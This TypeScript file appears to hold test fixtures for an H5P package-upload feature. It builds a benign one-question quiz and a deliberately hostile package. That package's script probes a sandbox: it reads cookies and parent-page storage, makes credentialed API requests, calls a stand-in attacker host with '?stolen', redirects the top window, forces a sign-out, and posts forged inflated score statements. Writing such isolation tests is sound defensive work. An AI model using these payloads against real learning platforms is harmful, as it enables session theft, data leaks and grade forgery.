import type { ActivitySlug, CourseSlug, H5pPackageId, PersonId } from '#db/ids.ts';
import type { Store } from '#db/store.ts';
import { keepPackage } from '#domain/h5p/keep.ts';
import { actorsOf } from '#domain/people/roles.ts';
import { zipOf } from './zips.ts';

/** The files of a package by path. */
export type PackageFiles = Record<string, string | Uint8Array>;

/** A package of one question that scores, saves where one is, goes on from there and says so: whole, and of our own making. */
export function aPackage(files: PackageFiles = {}): PackageFiles {
  return {
    'h5p.json': JSON.stringify(aManifest()),
    'content/content.json': JSON.stringify({
      question: 'Whose interest comes first?',
      options: ['The public’s', 'The owner’s'],
      right: 0,
    }),
    'H5P.Stamp-1.2/library.json': JSON.stringify(aLibrary()),
    'H5P.Stamp-1.2/stamp.js': QUESTION,
    'H5P.Stamp-1.2/stamp.css':
      '.stamp { padding: 16px; font: 16px sans-serif; } .stamp label { display: block; padding: 8px 0; }',
    'H5P.Stamp-1.2/icon.svg': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8"/></svg>',
    ...files,
  };
}

/** The package as a file. A file that is `undefined` in `changes` is left out. */
export function packed(changes: Readonly<Record<string, string | Uint8Array | undefined>> = {}): Buffer {
  const files = { ...aPackage(), ...changes };
  return zipOf(Object.entries(files).flatMap(([path, bytes]) => (bytes === undefined ? [] : [{ path, bytes }])));
}

/** A package that an author has put under the name `activity` in a course. */
export async function aKeptPackage(
  store: Store,
  person: PersonId,
  course: CourseSlug,
  { activity = 'a-stamp', files = aPackage() }: { activity?: string; files?: PackageFiles } = {},
): Promise<H5pPackageId> {
  const author = (await actorsOf(store, person)).find((actor) => actor.role === 'author');
  if (!author) throw new Error('She is no author.');
  const bytes = zipOf(Object.entries(files).map(([path, file]) => ({ path, bytes: file })));
  const kept = await keepPackage(store, author, { course, activity: activity as ActivitySlug, bytes });
  if (!kept.ok) throw new Error(JSON.stringify(kept.refusal));
  return kept.value;
}

export function aManifest(changes: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    title: 'A stamp',
    language: 'en',
    mainLibrary: 'H5P.Stamp',
    embedTypes: ['div'],
    license: 'CC BY-SA',
    licenseVersion: '4.0',
    authors: [{ name: 'Aygün Limanlı', role: 'Author' }],
    preloadedDependencies: [{ machineName: 'H5P.Stamp', majorVersion: 1, minorVersion: 2 }],
    ...changes,
  };
}

export function aLibrary(changes: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    title: 'Stamp',
    machineName: 'H5P.Stamp',
    majorVersion: 1,
    minorVersion: 2,
    patchVersion: 0,
    runnable: 1,
    preloadedJs: [{ path: 'stamp.js' }],
    preloadedCss: [{ path: 'stamp.css' }],
    ...changes,
  };
}

const QUESTION = `
var H5P = H5P || {};
H5P.Stamp = (function ($) {
  function Stamp(params, id, extras) {
    H5P.EventDispatcher.call(this);
    var self = this;
    var chosen = extras && extras.previousState ? extras.previousState.chosen : -1;
    self.getMaxScore = function () { return 1; };
    self.getScore = function () { return chosen === params.right ? 1 : 0; };
    self.getCurrentState = function () { return chosen === -1 ? undefined : { chosen: chosen }; };
    self.attach = function ($container) {
      var form = $('<form class="stamp"></form>');
      form.append($('<fieldset></fieldset>').append($('<legend></legend>').text(params.question)));
      params.options.forEach(function (text, at) {
        var box = $('<input type="radio" name="stamp">').attr('value', at).prop('checked', at === chosen);
        box.on('change', function () { chosen = at; self.triggerXAPI('interacted'); });
        form.find('fieldset').append($('<label></label>').append(box, document.createTextNode(' ' + text)));
      });
      // A button and no submission: the sandbox lets no form be sent, and tells nobody that it would have been.
      form.append('<button type="button">Stamp it</button><p role="status"></p>');
      form.find('button').on('click', function () {
        var said = self.createXAPIEventTemplate('answered');
        said.setScoredResult(self.getScore(), 1, self, true, self.getScore() === 1);
        said.data.statement.result.response = String(chosen);
        self.trigger(said);
        form.find('[role=status]').text(self.getScore() === 1 ? 'Right' : 'Wrong');
        self.trigger('resize');
      });
      $container.append(form);
      self.setActivityStarted();
    };
  }
  Stamp.prototype = Object.create(H5P.EventDispatcher.prototype);
  return Stamp;
})(H5P.jQuery);
`;

/** A library that tries everything a script of a stranger could, and writes what it got into its own page. */
export function aHostilePackage(): PackageFiles {
  return {
    'h5p.json': JSON.stringify(
      aManifest({
        title: 'A stranger',
        mainLibrary: 'H5P.Stranger',
        preloadedDependencies: [{ machineName: 'H5P.Stranger', majorVersion: 1, minorVersion: 0 }],
      }),
    ),
    'content/content.json': '{}',
    'H5P.Stranger-1.0/library.json': JSON.stringify(
      aLibrary({
        machineName: 'H5P.Stranger',
        minorVersion: 0,
        preloadedJs: [{ path: 'stranger.js' }],
        preloadedCss: [],
      }),
    ),
    'H5P.Stranger-1.0/stranger.js': STRANGER,
  };
}

const STRANGER = `
var H5P = H5P || {};
H5P.Stranger = function () {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) {
    var got = {};
    var tries = {
      cookie: function () { return document.cookie; },
      parentCookie: function () { return window.parent.document.cookie; },
      parentDom: function () { return window.parent.document.body.textContent; },
      parentStorage: function () { return JSON.stringify(window.parent.localStorage); },
      parentAddress: function () { return String(window.parent.location.href); },
      frameElement: function () { if (!window.frameElement) throw new Error('none'); return window.frameElement.outerHTML; },
      storage: function () { return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window).secret; },
      indexed: function () { indexedDB.open('x'); return 'opened'; },
      compiled: function () { return new Function('return 1')(); },
      popup: function () { var opened = window.open('/az/account'); if (!opened) throw new Error('none'); return 'opened'; },
      top: function () { window.top.location.href = 'https://altinkopru-gundem24.example/'; return 'asked'; },
      worker: function () { navigator.serviceWorker.register('/theme.js'); return 'asked'; }
    };
    Object.keys(tries).forEach(function (name) {
      try { got[name] = 'got ' + tries[name](); } catch (error) { got[name] = 'blocked'; }
    });
    var ask = function (name, address, init) {
      return fetch(address, init).then(
        function (answer) { return answer.text().then(function (text) { got[name] = 'got ' + answer.status + ' ' + text; }); },
        function () { got[name] = 'blocked'; }
      );
    };
    var origin = new URL(document.baseURI).origin;
    var form = document.createElement('form');
    form.method = 'post';
    form.target = '_top';
    form.action = origin + '/az/sign-out';
    document.body.append(form);
    try { form.submit(); } catch (error) { /* what is looked at is where the page went */ }
    var inner = document.createElement('iframe');
    inner.src = origin + '/az/account';
    document.body.append(inner);
    Promise.all([
      ask('me', origin + '/api/me', { credentials: 'include' }),
      ask('answers', origin + '/api/notes', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }),
      ask('elsewhere', 'https://altinkopru-gundem24.example/?stolen'),
      import(origin + '/theme.js').then(function () { got.module = 'got it'; }, function () { got.module = 'blocked'; })
    ]).then(function () {
      window.parent.postMessage({ from: 'h5p', height: 1e9 }, '*');
      window.parent.postMessage({ from: 'h5p', statement: { actor: { mbox: 'mailto:victim@kervan.example' }, verb: { id: 'http://adlnet.gov/expapi/verbs/completed' }, object: { id: 'https://altinkopru-gundem24.example/' }, result: { score: { raw: 9, min: 0, max: 3, scaled: 3 } } } }, '*');
      $container.append(H5P.jQuery('<pre id="got"></pre>').text(JSON.stringify(got)));
    });
  };
};
H5P.Stranger.prototype = Object.create(H5P.EventDispatcher.prototype);
`;
